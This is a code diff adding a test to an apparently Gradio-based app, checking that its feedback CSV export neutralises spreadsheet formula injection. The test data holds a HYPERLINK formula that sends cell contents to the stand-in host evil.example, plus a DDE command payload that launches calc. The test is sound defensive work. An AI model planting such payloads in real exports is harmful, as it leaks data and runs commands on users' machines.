@@ -242,6 +242,19 @@ def test_readers_cannot_reindex_delete_or_read_feedback(app_url):
     assert (APP_STORE["path"] / "plans" / "gia-lai-ke-hoach-ngoai-giao-van-hoa-2030.json").exists()
 
 
+def test_the_feedback_export_quotes_what_a_spreadsheet_would_run(app_url):
+    import csv
+
+    from gradio_client import Client
+
+    question, reason = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm")', "=cmd|' /C calc'!A0"
+    FeedbackStore(APP_STORE["path"] / "feedback.sqlite").add({"question": question, "answer": "x", "citations": []},
+                                                             liked=False, reason=reason, user=READER[0])
+    exported = Client(app_url, auth=ADMIN, verbose=False).predict(api_name="/feedback")
+    rows = list(csv.DictReader(Path(exported).read_text(encoding="utf-8-sig").splitlines()))
+    assert rows[-1]["question"] == "'" + question and rows[-1]["reason"] == "'" + reason
+
+
 def test_file_serving_never_leaves_the_kept_originals(app_url):
     store = APP_STORE["path"]
     with _session(app_url, ADMIN) as admin:
